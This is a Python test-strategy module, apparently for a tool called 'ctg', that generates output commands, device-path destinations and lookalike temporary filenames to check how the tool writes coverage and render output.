SYSTEM_TARGETS = [
    "/dev/null",
    "/dev/full",
    "/dev/zero",
    "/dev/stdout",
    "/dev/fd/1",
    "/proc/self/fd/1",
    "/dev/null/x",
    "/dev/shm/ctg-out",
    "/dev",
    "/proc",
    "/sys/kernel",
]
OUTPUT_COMMANDS = [
    ["coverage", "--format", "csv"],
    ["coverage", "--format", "json"],
    ["coverage", "--format", "md"],
    ["coverage", "--format", "html"],
    ["coverage", "--format", "text"],
    ["render"],
    ["render", "--format", "md"],
    ["render", "--format", "html"],
]
RENDERED = ["plan.md", "plan.html", "coverage.md", "coverage.html"]


@st.composite
def _lookalike(draw: st.DrawFn, name: str) -> str:
    """A name a user may give a file, that looks like ctg's temporary file for ``name``
    (``.NAME.<pid>.<random>.tmp``), or like its staging folder (``.ctg-render-*``)."""
    pid = draw(st.one_of(st.integers(1, 2**22), st.just(os.getpid()), st.just(os.getpid() + 1)))
    token = draw(st.text("0123456789abcdef", min_size=0, max_size=9))
    return draw(
        st.sampled_from(
            [
                f".{name}.{pid}.{token}.tmp",
                f".{name}.{token}.tmp",
                f".{name}.tmp",
                f".{name}..tmp",
                f"{name}.tmp",
                f".{name}.{pid}.{token}.tmp.bak",
                f".ctg-render-{token}",
            ]
        )
    )


@dataclass
class OutputTarget:
    """``ctg coverage -o`` or ``ctg render -o`` at a destination of kind ``kind``, made in a
    scratch folder; ``lookalikes``: the user's files (paths relative to the output file's
    folder, or to the output folder) named like ctg's temporary files, with their content."""

    kind: str
    command: list[str]
    name: str  # the output file's or folder's name
    lookalikes: dict[str, bytes]
    relative: bool  # -o relative to the working folder
    device: str = "/dev/null"  # what a link to a device points at


@st.composite
def output_targets(draw: st.DrawFn, slug: str = "plan") -> OutputTarget:
    command = draw(st.sampled_from(OUTPUT_COMMANDS))
    kind = draw(st.sampled_from(TARGET_KINDS))
    name = draw(
        st.sampled_from(["coverage.csv", "out", "c.json", ".hidden", "a b", "é", "x.tmp", "-o"])
    )
    lookalikes: dict[str, bytes] = {}
    for _ in range(draw(st.integers(1 if kind == "lookalike" else 0, 4))):
        if command[0] == "render":
            inner = draw(st.sampled_from(RENDERED))
            where = draw(st.sampled_from([f"{name}/{slug}/", f"{name}/", ""]))
            path = where + draw(_lookalike(inner))
        else:
            path = draw(_lookalike(name))
        lookalikes[path] = draw(st.binary(max_size=64))
    return OutputTarget(
        kind,
        command,
        name,
        lookalikes,
        draw(st.booleans()),
        draw(st.sampled_from(["/dev/null", "/dev/full", "/dev/zero", "/dev/urandom"])),
    )
